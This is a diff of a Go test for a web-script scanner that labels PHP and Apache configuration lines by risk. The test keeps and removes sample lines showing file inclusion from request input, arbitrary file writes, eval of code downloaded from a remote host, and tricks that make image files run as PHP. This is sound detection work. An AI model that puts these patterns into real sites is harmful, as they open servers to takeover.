@@ -78,27 +78,19 @@ func FuzzWebScript(f *testing.F) {
 	})
 }
 
-func TestMarkersTellWhatALineOfAScriptOrSettingDoes(t *testing.T) {
+func TestMarkersTellWhatALineOfAScriptDoes(t *testing.T) {
 	for text, want := range map[string]string{
-		"<?php include $_GET['p'];":                                          "includes_input",
-		"<?php require_once(\"$_REQUEST[page].php\");":                       "includes_input",
-		"<?php include 'config.php'; $p = $_GET['p'];":                       "",
-		"<?php file_put_contents($_GET['f'], $_POST['d']);":                  "writes_input",
-		"<?php file_put_contents('log.txt', $_POST['d']);":                   "",
-		"<?php eval(file_get_contents('http://192.0.2.1/x'));":               "evaluates_download",
-		"<?php eval(file_get_contents('cache.php'));":                        "",
-		"AddType application/x-httpd-php .png":                               "handles_other_files",
-		"AddHandler application/x-httpd-php82 .php .phtml":                   "",
-		"<FilesMatch \"\\.(jpg|png)$\">\nSetHandler application/x-httpd-php": "handles_other_files",
-		"<FilesMatch \"\\.php$\">\nSetHandler application/x-httpd-php":       "",
-		"<FilesMatch \"\\.(jpg|png)$\">\nHeader set Cache-Control public":    "",
-		"auto_prepend_file=/tmp/x.jpg":                                       "prepends_other_file",
-		"php_value auto_append_file logo.gif":                                "prepends_other_file",
-		"auto_prepend_file = '/var/www/site/wordfence-waf.php'":              "",
+		"<?php include $_GET['p'];":                            "includes_input",
+		"<?php require_once(\"$_REQUEST[page].php\");":         "includes_input",
+		"<?php include 'config.php'; $p = $_GET['p'];":         "",
+		"<?php file_put_contents($_GET['f'], $_POST['d']);":    "writes_input",
+		"<?php file_put_contents('log.txt', $_POST['d']);":     "",
+		"<?php eval(file_get_contents('http://192.0.2.1/x'));": "evaluates_download",
+		"<?php eval(file_get_contents('cache.php'));":          "",
 	} {
 		var got []string
 		for _, marker := range parseWebScript(text).Markers {
-			if strings.HasSuffix(marker, "_input") || strings.HasSuffix(marker, "_download") || strings.HasSuffix(marker, "_files") || strings.HasSuffix(marker, "_file") {
+			if strings.HasSuffix(marker, "_input") || strings.HasSuffix(marker, "_download") {
 				got = append(got, marker)
 			}
 		}
